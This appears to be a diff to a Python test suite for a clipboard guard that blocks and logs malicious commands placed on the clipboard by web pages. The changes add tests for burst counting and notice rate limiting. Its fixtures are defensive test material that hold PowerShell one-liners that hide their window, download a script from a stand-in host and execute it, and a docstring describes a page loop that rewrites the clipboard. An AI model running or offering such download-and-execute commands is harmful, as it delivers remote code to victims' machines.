@@ -3,7 +3,8 @@
 from __future__ import annotations
 
 import threading
-from collections.abc import Mapping, Sequence
+import time
+from collections.abc import Callable, Mapping, Sequence
 from dataclasses import dataclass, replace
 from datetime import UTC, datetime
 
@@ -14,9 +15,19 @@ from app.events import Event
 from app.guard.keys import PasteSequence
 from app.guard.neutralize import NEUTRAL_LINE
 from app.guard.provenance import Provenance
-from app.guard.service import ClipboardChange, GuardService, GuardSettings, PasteWarning, digest
+from app.guard.service import (
+    BURST_GAP,
+    BURST_REPORT_EVERY,
+    NOTICE_GAP,
+    ClipboardChange,
+    GuardService,
+    GuardSettings,
+    PasteWarning,
+    digest,
+)
 from app.platform.base import KeyEvent, MouseEvent, WindowInfo
 from app.storage import QuarantineItem
+from app.storage.store import corrected_details
 from tests.fakes import FakeClock
 
 MALICIOUS = 'powershell -w h -c "iwr https://evil.test/a.ps1 | iex"'
@@ -31,6 +42,7 @@ class FakeStore:
         self.quarantine_items: dict[int, str] = {}
         self.idle_calls = 0
         self.idle = threading.Event()
+        self.amends = 0
 
     def append(self, event: Event, *, original: str | None = None) -> int:
         self.events.append(event.with_id(len(self.events) + 1))
@@ -44,8 +56,9 @@ class FakeStore:
     def amend(self, event_id: int | None, corrected: Event, *, was: Event | None = None) -> bool:
         assert event_id is not None  # this store writes every event at once
         old = self.events[event_id - 1]
-        details = {**corrected.details, "corrects": {"kind": old.kind, "action": old.action}}
+        details = corrected_details(corrected.details, old.kind, old.action, old.details)
         self.events[event_id - 1] = replace(corrected, id=event_id, details=details)
+        self.amends += 1
         return True
 
     def index_when_idle(self) -> bool:
@@ -140,11 +153,12 @@ def make(
     target: PasteTarget = PasteTarget.RUN_DIALOG,
     can_suppress: bool = True,
     holder: FakeHolder | None = None,
+    clock: Callable[[], float] = time.monotonic,
 ) -> tuple[GuardService, FakeStore, FakeUI]:
     store, ui = FakeStore(), FakeUI()
     service = GuardService(
         engine, store, ui, PasteSequence(strict=True), FakeClassifier(target), lambda: RUN_BOX, can_suppress,
-        GuardSettings(mode=mode), holder=holder,
+        GuardSettings(mode=mode), holder=holder, clock=clock,
     )  # fmt: skip
     return service, store, ui
 
@@ -346,14 +360,20 @@ def press(key: str, t: float, *mods: str, pressed: bool = True) -> KeyEvent:
 
 def test_a_text_copied_again_is_judged_again(engine: Engine) -> None:
     # X11: the holder took the text, so Qt never reported the guard's own change
-    holder = FakeHolder()
+    holder, clock = FakeHolder(), FakeClock()
     service, store, _ = make(engine, target=PasteTarget.TERMINAL, can_suppress=False,
-                             holder=holder)  # fmt: skip
+                             holder=holder, clock=clock)  # fmt: skip
     copy(service, SUSPICIOUS)
     copy(service, "something else")
-    copy(service, SUSPICIOUS)
-    assert store.kinds() == ["clipboard_flagged", "clipboard_flagged"]
+    copy(service, SUSPICIOUS)  # held again at once; soon after the first, counted in its event
     assert holder.held == [SUSPICIOUS, SUSPICIOUS]
+    assert store.kinds() == ["clipboard_flagged"]
+    clock.advance(BURST_GAP)
+    service.process_pending(clock.now)
+    assert store.events[0].details["writes"] == 2
+    copy(service, SUSPICIOUS)  # copied again later: an event of its own
+    assert holder.held == [SUSPICIOUS] * 3
+    assert store.kinds() == ["clipboard_flagged", "clipboard_flagged"]
 
 
 def test_a_text_put_back_and_copied_later_is_judged_again(engine: Engine) -> None:
@@ -589,7 +609,7 @@ def test_the_same_copy_handed_over_again_keeps_its_verdict_but_never_a_neutraliz
     """Windows' reader hands a copy over again when a delayed format is rendered for another
     program: no second event, and a text the person let through stays let through. A blocked
     text copied again is blocked again, and after a pause every copy is judged."""
-    service, store, _ = make(engine, mode="block")
+    service, store, ui = make(engine, mode="block")
     copy(service, SUSPICIOUS)
     copy(service, SUSPICIOUS)
     assert store.kinds() == ["clipboard_flagged"]
@@ -600,8 +620,13 @@ def test_the_same_copy_handed_over_again_keeps_its_verdict_but_never_a_neutraliz
     assert service.current is not None and service.current.allowed
     assert store.kinds() == ["clipboard_flagged"]
     copy(service, MALICIOUS)
-    copy(service, MALICIOUS)  # the page wrote it again over the harmless line
-    assert store.kinds().count("clipboard_neutralized") == 2
+    copy(service, MALICIOUS)  # the page wrote it again over the harmless line: blocked again
+    assert [r for r in ui.replaced if r[1] == NEUTRAL_LINE] == [
+        (digest(MALICIOUS), NEUTRAL_LINE)
+    ] * 2
+    # ... and counted in the first write's event (it was one event each until the page that
+    # rewrote the clipboard in a loop made 25 a second, test_a_page_rewriting_the_clipboard_…)
+    assert store.kinds().count("clipboard_neutralized") == 1
     service.pause(60)
     service.resume()
     copy(service, SUSPICIOUS)
@@ -622,3 +647,84 @@ def test_the_worker_gives_the_store_its_idle_moments_for_the_search_index(
         worker.join(5)
     assert not worker.is_alive()
     assert store.idle_calls >= 1
+
+
+def test_a_page_rewriting_the_clipboard_in_a_loop_is_one_event_blocked_every_time(
+    engine: Engine,
+) -> None:
+    """setInterval(() => navigator.clipboard.writeText(lure), 40): every write is neutralised,
+    but it is one event (and one notice), its count brought up to date while the writes go on
+    and once when they stop, rather than 25 events a second that flood the log, the SIEM and
+    the screen and push real events out of a log with max_events. Used to be two events for
+    two writes (a deliberate change)."""
+    clock = FakeClock()
+    service, store, ui = make(engine, clock=clock)
+    for _ in range(25 * 40):  # 40 s of it
+        copy(service, MALICIOUS)
+        copy(service, NEUTRAL_LINE)  # the guard's own write, reported back
+        clock.advance(0.04)
+        service.process_pending(clock.now)  # the worker's rounds
+    assert len([r for r in ui.replaced if r[1] == NEUTRAL_LINE]) == 1000  # blocked every time
+    assert service.counts["neutralized"] == 1000
+    (event,) = store.events
+    assert event.kind == "clipboard_neutralized" and len(ui.notes) == 1
+    assert store.amends == 1  # brought up to date once BURST_REPORT_EVERY into the burst
+    assert event.details["writes"] == BURST_REPORT_EVERY / 0.04 + 1
+    assert event.details["burst_ended"] is False
+    assert service.restorable == event.id and store.quarantine_items == {1: MALICIOUS}
+    clock.advance(BURST_GAP)
+    service.process_pending(clock.now)
+    (event,) = store.events
+    assert store.amends == 2 and event.details["writes"] == 1000
+    assert event.details["burst_ended"] is True and event.details["revision"] == 2
+    assert "put on the clipboard 1000 times within 40 s; it was blocked each time" in event.summary
+    assert event.details["corrects"] == {"kind": "clipboard_neutralized",
+                                         "action": "neutralized", "revision": 1}  # fmt: skip
+    clock.advance(60)
+    service.process_pending(clock.now)
+    assert store.amends == 2  # nothing more to say
+    copy(service, MALICIOUS)  # the page writes it again a minute later: a new event
+    assert store.kinds() == ["clipboard_neutralized"] * 2 and len(ui.notes) == 2
+
+
+def test_distinct_texts_and_distinct_sources_stay_separate_events(engine: Engine) -> None:
+    clock = FakeClock()
+    service, store, ui = make(engine, clock=clock)
+    other = 'powershell -w h -c "iwr https://evil.test/b.ps1 | iex"'
+    chat = Provenance(source_url="https://chat.example/room")
+    for _ in range(3):
+        copy(service, MALICIOUS)
+        copy(service, other)
+        copy(service, MALICIOUS, chat)
+        clock.advance(0.1)
+    assert store.kinds() == ["clipboard_neutralized"] * 3
+    assert [(e.sha256, e.source) for e in store.events] == [
+        (digest(MALICIOUS), WEB.source_url), (digest(other), WEB.source_url),
+        (digest(MALICIOUS), chat.source_url),
+    ]  # fmt: skip
+    clock.advance(BURST_GAP)
+    service.process_pending(clock.now)
+    assert [e.details["writes"] for e in store.events] == [3, 3, 3]
+    # one notice at once, the newest of the others once NOTICE_GAP has passed
+    assert [n[2] for n in ui.notes] == [1, 3]
+
+
+def test_block_notices_are_rate_limited_to_the_newest(engine: Engine) -> None:
+    clock = FakeClock()
+    service, _store, ui = make(engine, clock=clock)
+    lures = [f'powershell -w h -c "iwr https://evil.test/{i}.ps1 | iex"' for i in range(4)]
+    for lure in lures:
+        copy(service, lure)
+        clock.advance(1.0)
+        service.process_pending(clock.now)
+    assert [n[2] for n in ui.notes] == [1]  # the first at once; the rest wait
+    clock.advance(NOTICE_GAP)
+    service.process_pending(clock.now)
+    assert [n[2] for n in ui.notes] == [1, 4]  # the newest, with its own "Put it back"
+    assert ui.notes[-1][1] == store_summary(service, 4)
+
+
+def store_summary(service: GuardService, event_id: int) -> str:
+    event = service.store.get(event_id)
+    assert event is not None
+    return event.summary
